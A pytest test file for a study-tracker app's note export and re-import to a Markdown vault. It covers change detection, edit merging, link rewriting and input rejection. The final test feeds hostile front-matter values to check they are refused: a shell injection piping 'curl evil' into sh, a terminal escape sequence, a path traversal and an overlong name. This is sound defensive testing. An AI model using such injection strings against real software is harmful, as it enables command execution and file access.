"""Notes go out as files, are edited there, and come back."""

from pathlib import Path

import pytest

from studytui.errors import BadInput
from tests.importing.conftest import Learner


@pytest.fixture
def vault(ben: Learner, tmp_path: Path) -> Path:
    """A folder with two notes of ben's."""
    ben.tracker.append_to_note("loops", "about loops")
    ben.tracker.append_to_note("", "about all of it")
    folder = tmp_path / "vault"
    assert ben.out.notes(folder).written == 2
    return folder


def test_only_what_changed_is_written_again(ben: Learner, vault: Path) -> None:
    page, whole = vault / "road" / "loops.md", vault / "road" / "road.md"
    assert page.read_text().endswith("---\nabout loops")
    assert 'up: "[[programming|Programming]]"' in page.read_text()
    before = whole.stat().st_mtime_ns
    ben.clock.advance(hours=1)
    ben.tracker.append_to_note("loops", "more")
    found = ben.out.notes(vault)
    assert (found.written, found.unchanged, found.edited) == (1, 1, ())
    assert page.read_text().endswith("about loops\n\nmore")
    assert whole.stat().st_mtime_ns == before


def test_what_was_edited_there_comes_back_once(ben: Learner, vault: Path) -> None:
    page = vault / "moved" / "elsewhere.md"
    page.parent.mkdir()
    (vault / "road" / "loops.md").rename(page)
    page.write_text(page.read_text() + ", and on")
    found = ben.out.notes(vault)
    assert (found.written, found.edited) == (0, (page,))
    (vault / "other.md").write_text("not ours")
    (vault / "link.md").symlink_to(page)
    assert ben.importing.folder(vault).notes == 1
    note = ben.tracker.note("loops")
    assert note
    assert note.text == "about loops, and on"
    assert ben.importing.folder(vault).is_empty
    assert ben.out.notes(vault).edited == ()
    assert ben.importing.folder(vault).is_empty
    assert (ben.tracker.undo() or "").startswith("imported ")


def test_of_two_texts_both_are_kept(ben: Learner, vault: Path) -> None:
    page = vault / "road" / "loops.md"
    page.write_text(page.read_text() + " there")
    ben.clock.advance(hours=1)
    ben.tracker.append_to_note("loops", "here")
    assert len(ben.importing.folder(vault).remarks) == 1
    note = ben.tracker.note("loops")
    assert note
    assert note.text == "about loops there\n\nhere"
    assert ben.importing.folder(vault).is_empty
    assert ben.out.notes(vault).written == 1


def test_an_old_text_that_was_put_back_there_comes_back(ben: Learner, vault: Path) -> None:
    ben.clock.advance(hours=1)
    ben.tracker.append_to_note("loops", "more")
    ben.out.notes(vault)
    page = vault / "road" / "loops.md"
    page.write_text(page.read_text().removesuffix("\n\nmore"))
    assert ben.out.notes(vault).edited == (page,)
    assert ben.importing.folder(vault).notes == 1
    note = ben.tracker.note("loops")
    assert note
    assert note.text == "about loops"
    ben.clock.advance(hours=1)
    ben.tracker.append_to_note("loops", "and on")
    assert ben.importing.folder(vault).is_empty
    assert ben.out.notes(vault).edited == ()


def test_a_text_that_went_out_half_written_was_not_edited_there(ben: Learner, vault: Path) -> None:
    note = ben.tracker.write_note("joins", "half", based_on=None).note
    ben.out.notes(vault)
    ben.tracker.write_note("joins", "half, and whole", based_on=note.edition)
    assert ben.importing.folder(vault).is_empty
    assert ben.out.notes(vault).written == 1


def test_links_lead_to_the_files(ben: Learner, vault: Path) -> None:
    for item in ("blog", "programming", "databases"):
        ben.tracker.append_to_note(item, "about it")
    (vault / "elsewhere").mkdir()
    ben.out.notes(vault)
    moved = vault / "elsewhere" / "My basics.md"
    (vault / "road" / "programming.md").rename(moved)
    ben.out.notes(vault)
    assert 'up: "[[My basics|Programming]]"' in (vault / "road" / "loops.md").read_text()
    databases = (vault / "road" / "databases.md").read_text()
    assert 'up: "[[road|The road]]"' in databases


def test_a_file_of_somebody_else_s_stays(ben: Learner, vault: Path) -> None:
    mine = vault / "road" / "joins.md"
    mine.write_text("mine")
    ben.tracker.append_to_note("joins", "about joins")
    ben.out.notes(vault)
    assert mine.read_text() == "mine"
    assert (vault / "road" / "joins (Joins).md").exists()


def test_what_is_refused(ben: Learner, vault: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(BadInput, match="holds no notes of studytui"):
        ben.importing.folder(tmp_path / "empty")
    page = vault / "road" / "loops.md"
    text = page.read_text()
    for name in ("; curl evil | sh #", "\\u001b]52;c;x\\u0007", "../x", "x" * 201):
        for key, usual in (("item", "loops"), ("roadmap", "road")):
            page.write_text(text.replace(f'{key}: "{usual}"', f'{key}: "{name}"'))
            with pytest.raises(BadInput, match="its front matter was changed"):
                ben.importing.folder(vault)
    page.write_text(text)
    (vault / "copy.md").write_text(text)
    with pytest.raises(BadInput, match="are the same note"):
        ben.importing.folder(vault)
